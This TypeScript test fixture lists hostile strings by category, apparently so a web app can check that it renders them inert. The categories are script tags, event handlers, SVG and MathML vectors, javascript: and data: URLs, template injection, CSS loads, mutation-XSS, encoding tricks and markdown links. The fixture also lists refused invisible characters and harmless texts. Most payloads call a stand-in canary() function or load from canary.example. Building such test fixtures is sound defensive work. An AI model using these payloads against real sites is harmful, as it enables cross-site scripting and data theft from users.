/**
 * Texts that would run a script, load something, leave the page or change it wherever a text is taken for HTML, a URL, a style or a template. `canary` is the name of the function that
 * they call, and `canary.example` the host that they ask. A page must show them as they are.
 */
const call = 'canary()';
const host = 'canary.example';

const scriptTags = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<script src=//${host}/1></script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>${call}</script>`,
  `<script>/*</script><script>*/${call}</script>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<!--<script>${call}//-->`,
  `<script>${call}`,
  `<script nonce="">${call}</script>`,
  `<script type="application/json" id="page-data">{}</script>`,
  `{"a":"</script><script>${call}</script>"}`,
];

const handlers = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbeforetoggle',
];
const eventHandlers = [
  ...handlers.map((name) => `<img src=x ${name}=${call}>`),
  ...handlers.map((name) => `" ${name}="${call}" x="`),
  `' autofocus onfocus='${call}`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video src=x onerror=${call}>`,
  `<audio src=x onerror=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<marquee onstart=${call}>`,
  `<iframe onload=${call}></iframe>`,
  `<object data=x onerror=${call}></object>`,
  `<div tabindex=0 autofocus onfocus=${call}>`,
  `<img/src/onerror=${call}>`,
  `<img src=x onerror\n=\n${call}>`,
  `<img src=x onerror="&#99;anary()">`,
  `<img src=x oNeRrOr=${call}>`,
  `<img src=\`x\` onerror=${call}>`,
  `<a href=# onclick=${call}>open</a>`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${call}>`,
];

const svg = [
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x to=1>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>open</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>open</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href=//${host}/2 onerror=${call} /></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg><discard onbegin=${call}>`,
];

const mathml = [
  `<math href="javascript:${call}">open</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${call}">open</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
];

const urls = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript:${call}`,
  `javascript&#58;${call}`,
  `%6Aavascript:${call}`,
  `javascript://%0a${call}`,
  `javascript://strapline.example/%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `blob:https://${host}/1`,
  `//${host}/3`,
  `\\\\${host}\\4`,
  `<a href="javascript:${call}">open</a>`,
  `<a href="java&#x09;script:${call}">open</a>`,
  `<form action="javascript:${call}"><button>open</button></form>`,
  `<button formaction="javascript:${call}">open</button>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<embed src="javascript:${call}">`,
  `<base href="//${host}/">`,
  `<meta http-equiv=refresh content="0;url=//${host}/5">`,
  `<meta http-equiv=refresh content="0;javascript:${call}">`,
  `<link rel=stylesheet href=//${host}/6.css>`,
  `<link rel=prefetch href=//${host}/7>`,
  `<img src=//${host}/8.png>`,
  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
];

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `{{$on.constructor('${call}')()}}`,
  `{{7*7}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `{%25 raw %25}{{${call}}}`,
  `[[\${${call}}]]`,
  `{__html: '<img src=x onerror=${call}>'}`,
  `{name} {0} %s %1$s`,
  `<div v-html="'<img src=x onerror=${call}>'">`,
  `<div ng-app>{{${call}}}</div>`,
  `<div x-init="${call}">`,
  `<img x-on:error="${call}" src=x>`,
  `__NONCE__`,
  `<!--app--><!--data-->`,
  `$& $\` $' $1`,
  `__proto__`,
  `constructor`,
];

const styles = [
  `<style>@import url(//${host}/9.css);</style>`,
  `<style>*{background:url(//${host}/10)}</style>`,
  `<p style="background:url(//${host}/11)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">x</p>`,
  `<p style="width:expression(${call})">x</p>`,
  `<p style="behavior:url(//${host}/12)">x</p>`,
  `<p style="-moz-binding:url(//${host}/13)">x</p>`,
  `red;background:url(//${host}/14)`,
  `</style><style>body{display:none}</style>`,
  `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${call}>x</p>`,
];

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<p id="</p><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math></p><style><!--</style><img src/onerror=${call}>--></style></math>`,
  `<template><script>${call}</script></template>`,
  `<div><template shadowrootmode=open><script>${call}</script></template></div>`,
  `<select><template><img src=x onerror=${call}></template></select>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<listing>&lt;img onerror=${call} src=x&gt;</listing>`,
  `<table><td background="//${host}/15"><a href="x"></table><img src=x onerror=${call}>`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>">`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  `&lt;/script&gt;&lt;script&gt;${call}`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `<img alt="\`><script>${call}</script>"src="\`">`,
  `<input name=attributes><input name=parentNode>`,
  `<a id=pageApp name=document href=//${host}/16>x</a>`,
];

/** Like a browser that guesses another encoding, or a filter that compares other characters than are shown. */
const encodings = [
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${call}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `%253Cscript%253E${call}%253C%252Fscript%253E`,
  `<s\u0307cript>${call}</s\u0307cript>`,
  `<\u017fcript>${call}</\u017fcript>`,
  `<\u0131mg src=x onerror=${call}>`,
  `\ufffd<img src=x onerror=${call}>`,
  `e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301<b>x</b>`,
];

const markdown = [
  `[open](javascript:${call})`,
  `[open](JaVaScRiPt:${call})`,
  `[open](javascript&#58;${call})`,
  `[open](<javascript:${call}>)`,
  `[open]( javascript:${call})`,
  `[open](data:text/html,<script>${call}</script>)`,
  `[open](//${host}/17 "x" onmouseover=${call})`,
  `![x](x"onerror="${call})`,
  `![x](//${host}/18.png)`,
  `[x]: javascript:${call}\n[x]`,
  `<javascript:${call}>`,
  `\`\`\`html\n<script>${call}</script>\n\`\`\``,
  `[a](b)<img src=x onerror=${call}>`,
  `> <img src=x onerror=${call}>`,
  `| a |\n|---|\n| <img src=x onerror=${call}> |`,
];

/** At least 150, by category. */
export const hostileTexts: Readonly<Record<string, readonly string[]>> = {
  scriptTags,
  eventHandlers,
  svg,
  mathml,
  urls,
  templates,
  styles,
  mutations,
  encodings,
  markdown,
};

/** Invisible and reversing characters, which texts may not have: the schemas refuse them. Joiners and accents stay allowed. */
export const invisibleTexts: readonly string[] = [
  '\u202egnp.exe',
  'a\u2066b\u2069',
  'a\u200bb',
  'a\u00adb',
  'a\ufeffb',
  'a\ud800b',
  'a\u2028b',
  'a\u0007b',
  'a\u{e0041}b',
];

/** Harmless texts that a filter might damage. */
export const harmlessTexts: readonly string[] = [
  'Size < 34 & > 30, "soft" & \'worn\'',
  '5 < 6 > 4 && 3',
  'AT&amp;T and &lt;b&gt; as typed',
  'I <3 lace <333',
  'O\u2019Hara \u2014 caf\u00e9 \u{1f48c} na\u00efve \u4e2d\u6587 \u05e9\u05dc\u05d5\u05dd',
  '{not a template} $5 for 50% @ home #1',
  'family: \u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  'on load: wash at 30\u00b0, style="vintage"',
];
